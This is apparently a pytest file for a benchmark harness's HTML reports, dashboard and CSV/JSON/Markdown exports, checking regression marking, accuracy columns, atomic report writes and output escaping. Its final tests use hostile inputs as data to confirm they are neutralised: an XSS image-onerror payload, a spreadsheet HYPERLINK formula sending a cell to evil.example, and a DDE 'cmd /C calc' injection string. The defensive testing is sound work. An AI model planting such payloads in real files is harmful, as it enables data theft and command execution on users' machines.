"""The comparison report, the regression dashboard and the exports, from stored results (synthetic samples,
real store, real matplotlib and Jinja). Opening them in a browser is test_reports_browser.py."""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest

from harness.gate.config import config_from
from harness.store.store import Store
from reports.printers import FIELDS, export
from reports.render import render_dashboard, render_run_report
from reports.table import COLUMNS
from tests.conftest import run_cli
from tests.fake_results import CELLS, HOSTILE, add_run


class _Markup(HTMLParser):
    """Every tag, attribute and text node of a page, as a browser's parser sees them."""

    def __init__(self, html: str):
        super().__init__()
        self.tags, self.attrs, self.text = set(), [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs += attrs

    def handle_data(self, data):
        self.text.append(data)


def assert_inert(html: str) -> _Markup:
    """Nothing in the page runs or loads: no script, no event handler, no javascript: or remote URL."""
    page = _Markup(html)
    assert not page.tags & {"script", "iframe", "object", "embed", "img", "foreignobject", "a", "form"}
    assert not [n for n, _ in page.attrs if n.startswith("on")]
    urls = [v for n, v in page.attrs if n in ("href", "src", "xlink:href") and v]
    assert all(v.startswith(("#", "data:")) for v in urls), urls
    return page


def test_comparison_report_colours_significant_deltas_only(tmp_path):
    store = Store(str(tmp_path / "r.db"))
    base = add_run(store, "base", seed=1)
    honest = add_run(store, "honest", seed=2)
    slow = add_run(store, "slow", scale=0.85, seed=3)

    html = render_run_report(store, slow, tmp_path / "slow.html", baseline_run=base).read_text()
    # prefill, decode and TTFT of both cells are significantly worse; peak memory did not move
    assert html.count('<td class="regression"') == 6 and 'class="improvement"' not in html
    assert "baseline run 1 · base" in html and "6 figures significantly worse" in html
    assert re.search(r'title="baseline median [\d,.]+; Mann–Whitney p = 0.00794; regression">-1[45]\.\d %', html)
    assert 'id="gate"' in html and "regression" in html

    html = render_run_report(store, honest, tmp_path / "honest.html", baseline_run=base).read_text()
    assert 'class="regression"' not in html and 'class="improvement"' not in html
    assert html.count('class="unchanged"') == 2 * 4  # 4 compared figures per cell, all within noise


def test_report_charts_tables_and_provenance(tmp_path):
    store = Store(str(tmp_path / "r.db"))
    run = add_run(store, "one", cells=[*CELLS, ("tinyllama-full", "dynamic_int8", "pixel8", 580.0, 48.0, 3043.0)])
    html = render_run_report(store, run, tmp_path / "r.html").read_text()
    page = assert_inert(html)
    assert html.count("<svg") == 2 and 'id="speed-chart"' in html and 'id="memory-chart"' in html
    assert "prefill tok/s" in page.text and "peak RSS (MB)" in page.text  # chart text stays text
    assert len(re.findall(r"<tr class=\"\">", html)) == 3 and "<th>Δ</th>" not in html  # no baseline: no deltas
    assert "<h3>host</h3>" in html and "<h3>pixel8</h3>" in html and "runtime library sha256" in html
    assert 'class="accuracy"' not in html  # no accuracy figures stored: no accuracy columns


def test_accuracy_columns_appear_when_results_carry_them(tmp_path):
    store = Store(str(tmp_path / "r.db"))
    base = add_run(store, seed=1, accuracy={"top1_agreement": 0.99, "max_abs_logit_diff": 0.03})
    run = add_run(store, seed=2, accuracy={"top1_agreement": 0.95, "max_abs_logit_diff": 0.03})
    html = render_run_report(store, run, tmp_path / "r.html", baseline_run=base, config=config_from(None)).read_text()
    assert '<th class="accuracy">max_abs_logit_diff<br>Δ</th>' in html and "top1_agreement" in html
    assert "0.9500" in html and "-0.0400" in html
    assert "accuracy top1_agreement 0.95 vs baseline 0.99 (drift 0.04 &gt; 0.02)" in html  # fails the gate


def test_dashboard_trends_and_marks_regressions(tmp_path):
    store = Store(str(tmp_path / "r.db"))
    for seed, scale in enumerate([1.0, 1.0, 1.0, 0.8, 0.8]):
        add_run(store, "nightly", scale=scale, seed=seed)
    store.set_baseline("release", 2)
    html = render_dashboard(store, tmp_path / "dashboard.html").read_text()
    assert_inert(html)
    assert html.count('<figure class="trend">') == len(CELLS) and html.count("<svg") == len(CELLS)
    rows = re.findall(r"<tr><td>(\d+)</td><td>(\d+)</td>", html)  # the regressions table: run, previous run
    assert set(rows) == {("4", "3")} and len(rows) == len(CELLS) * 3  # prefill, decode, TTFT of each cell
    assert html.count("fill-opacity") > 0  # the spread bands
    assert '<table id="runs">' in html and "release" in html


@pytest.mark.parametrize("fmt", ["csv", "json", "md"])
def test_exports_share_one_schema(tmp_path, fmt):
    store = Store(str(tmp_path / "r.db"))
    run = add_run(store, "a,b \"c\"\nd", accuracy={"top1_agreement": 0.98})
    out = io.StringIO()
    export(store.results_frame(run), fmt, out, store.accuracy_frame(run))
    text = out.getvalue()
    names = [name for name, _ in FIELDS]
    assert {col for _, col, _ in COLUMNS} <= set(names)  # Markdown shows a subset of the same fields
    if fmt == "csv":
        rows = list(csv.DictReader(io.StringIO(text)))
        assert list(rows[0]) == names and rows[0]["label"] == "a,b \"c\"\nd" and len(rows) == len(CELLS)
        assert json.loads(rows[0]["accuracy"]) == {"top1_agreement": 0.98} and rows[0]["stable"] == "True"
    elif fmt == "json":
        rows = json.loads(text)
        assert list(rows[0]) == names and rows[0]["prefill_len"] == 128 and rows[0]["stable"] is True
        assert rows[0]["accuracy"] == {"top1_agreement": 0.98} and rows[0]["artifact_bytes"] == 5_000_000_000
    else:
        lines = text.splitlines()
        assert lines[0] == "| " + " | ".join(h for h, _, _ in COLUMNS) + " |" and len(lines) == 2 + len(CELLS)


def test_report_and_export_commands(results_url, tmp_path):
    store = Store(results_url)
    add_run(store, "nightly", seed=1)
    add_run(store, "nightly", seed=2, scale=0.7)
    store.set_baseline("release", 1)
    out = run_cli("report", "--results-db", results_url, "--out", str(tmp_path / "out"), "--baseline", "release",
                  timeout=120)
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == [str(tmp_path / "out" / "run-2.html"), str(tmp_path / "out" / "dashboard.html")]
    assert '<td class="regression"' in (tmp_path / "out" / "run-2.html").read_text()

    out = run_cli("export", "--results-db", results_url, "--all", "--format", "json", timeout=120)
    assert out.returncode == 0, out.stderr
    assert [r["run_id"] for r in json.loads(out.stdout)] == [1, 1, 2, 2]
    out = run_cli("export", "--results-db", results_url, "--format", "xml", timeout=120)
    assert out.returncode == 2 and "invalid choice: 'xml'" in out.stderr


def _hostile_store(url: str) -> tuple[Store, int, int]:
    store = Store(url)
    cells = [(HOSTILE, "none", HOSTILE, 1000.0, 100.0, 100.0), *CELLS]
    facts = {"model": '<img src=x onerror="alert(1)">', "os": HOSTILE, "cpus": [0, 1]}
    base = add_run(store, HOSTILE, cells=cells, seed=1, device_facts=facts, accuracy={HOSTILE: 0.5})
    run = add_run(store, HOSTILE, cells=cells, seed=2, scale=0.8, device_facts=facts, accuracy={HOSTILE: 0.4})
    store.set_baseline(HOSTILE, base)
    return store, base, run


def test_hostile_names_render_as_text_everywhere(results_url, tmp_path):
    """Model, device, label, device facts and accuracy names are untrusted: in the report, the dashboard (on
    every database) and the Markdown export they stay text."""
    store, base, run = _hostile_store(results_url)
    for html in (render_run_report(store, run, tmp_path / "run.html", baseline_run=base).read_text(),
                 render_dashboard(store, tmp_path / "dashboard.html").read_text()):
        page = assert_inert(html)
        assert not re.search(r"<\s*script", html, re.I) and "<img" not in html
        assert any(HOSTILE in t for t in page.text)  # shown, as text
    svg_text = re.findall(r"<text[^>]*>([^<]*)</text>", html)  # the dashboard's chart titles
    assert any("&lt;script&gt;" in t for t in svg_text)

    out = io.StringIO()
    export(store.results_frame(run), "md", out)
    table = out.getvalue()
    assert "<script" not in table and not re.search(r"(?<!\\)\]\(javascript", table)  # no tag, no link
    cells_per_row = {len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}
    assert cells_per_row == {len(COLUMNS) + 1}  # no pipe in a name split a row


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path):
    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a leading quote, in the
    CSV only; numbers stay numbers and the JSON export keeps the text as stored."""
    store = Store(str(tmp_path / "r.db"))
    cells = [('=HYPERLINK("http://evil.example/?"&A1,"open")', "none", "@SUM(A1:A9)", 900.0, 100.0, 50.0),
             ("+cmd|' /C calc'!A0", "-2+3", "\tdevice", 800.0, 90.0, 60.0),
             ("\rmodel", "dynamic_int8", "host", 700.0, 80.0, 70.0)]
    run = add_run(store, "=1+1", cells=cells)
    frame = store.results_frame(run)
    out = io.StringIO()
    export(frame, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["model"], r["quant"], r["device"]) for r in rows] == [
        ("'" + cells[0][0], "none", "'@SUM(A1:A9)"), ("'" + cells[1][0], "'-2+3", "'\tdevice"),
        ("'\rmodel", "dynamic_int8", "host")]
    assert {r["label"] for r in rows} == {"'=1+1"}
    assert float(rows[0]["decode_tok_s"]) > 0 and not rows[0]["decode_tok_s"].startswith("'")
    out = io.StringIO()
    export(frame, "json", out)
    assert [r["model"] for r in json.loads(out.getvalue())] == [c[0] for c in cells]


def test_a_report_is_replaced_whole_never_rewritten_under_a_reader(tmp_path):
    import os

    store = Store(str(tmp_path / "r.db"))
    first, second = add_run(store, "first-run"), add_run(store, "second-run")
    out = tmp_path / "report" / "run.html"
    render_run_report(store, first, out)
    reader = tmp_path / "what-a-reader-has-open.html"
    os.link(out, reader)  # the same file a browser or an upload has open while the report is written again
    before = reader.read_text()
    render_run_report(store, second, out)
    assert reader.read_text() == before and "first-run" in before  # not truncated or rewritten under it
    assert "second-run" in out.read_text() and out.stat().st_ino != reader.stat().st_ino
    assert [p.name for p in out.parent.iterdir()] == ["run.html"]  # no temporary file left behind
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask


def test_a_report_folder_that_cannot_be_made_is_an_error_naming_it(tmp_path):
    from reports.render import ReportError

    store = Store(str(tmp_path / "r.db"))
    run = add_run(store)
    (tmp_path / "a-file").write_text("in the way\n")
    with pytest.raises(ReportError, match=f"folder {tmp_path}/a-file/out: {tmp_path}/a-file is a file"):
        render_dashboard(store, tmp_path / "a-file" / "out" / "dashboard.html")
    assert len(store.results_frame(run)) == len(CELLS)
